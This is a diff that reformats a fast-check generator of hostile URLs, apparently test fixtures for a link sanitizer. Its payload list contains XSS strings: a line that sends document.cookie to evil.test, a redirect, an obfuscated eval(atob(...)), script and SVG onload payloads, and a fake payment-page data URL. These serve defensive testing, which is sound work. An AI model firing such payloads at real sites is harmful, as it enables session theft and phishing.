@@ -11,7 +11,12 @@ import fc from 'fast-check';
 const SCHEMES = ['javascript', 'data', 'vbscript'] as const;
 const PAYLOADS: Readonly<Record<(typeof SCHEMES)[number], readonly string[]>> = {
   javascript: ['alert(1)', 'fetch("//evil.test/?"+document.cookie)', '//%0Aalert(1)', 'void(location="https://evil.test")', 'eval(atob("YWxlcnQoMSk="))'],
-  data: ['text/html,<script>alert(1)</script>', 'text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'image/svg+xml,<svg onload=alert(1)>', ',<h1>pay here</h1>'],
+  data: [
+    'text/html,<script>alert(1)</script>',
+    'text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+    'image/svg+xml,<svg onload=alert(1)>',
+    ',<h1>pay here</h1>',
+  ],
   vbscript: ['msgbox(1)'],
 };
 
@@ -41,8 +46,7 @@ const schemeUrl = fc
 /** Encodings a careless decoder would turn into a scheme; a URL parser reads them as no URL at all (no base to resolve against). */
 const encodedScheme = fc.tuple(fc.constantFrom(...SCHEMES), fc.nat(), fc.constantFrom('percent', 'entity', 'backslash')).map(([scheme, n, how]) => {
   const first = scheme.charCodeAt(0);
-  const head =
-    how === 'percent' ? `%${first.toString(16)}` : how === 'entity' ? `&#${first};` : `\\u00${first.toString(16)}`;
+  const head = how === 'percent' ? `%${first.toString(16)}` : how === 'entity' ? `&#${first};` : `\\u00${first.toString(16)}`;
   return `${head}${scheme.slice(1)}:${PAYLOADS[scheme][n % PAYLOADS[scheme].length]}`;
 });
 
@@ -55,4 +59,8 @@ const brokenHost = fc
     return `${scheme}://${host.slice(0, i)}${String.fromCharCode(code)}${host.slice(i)}/pay`;
   });
 
-export const hostileUrl: fc.Arbitrary<string> = fc.oneof({ arbitrary: schemeUrl, weight: 6 }, { arbitrary: encodedScheme, weight: 1 }, { arbitrary: brokenHost, weight: 2 });
+export const hostileUrl: fc.Arbitrary<string> = fc.oneof(
+  { arbitrary: schemeUrl, weight: 6 },
+  { arbitrary: encodedScheme, weight: 1 },
+  { arbitrary: brokenHost, weight: 2 },
+);
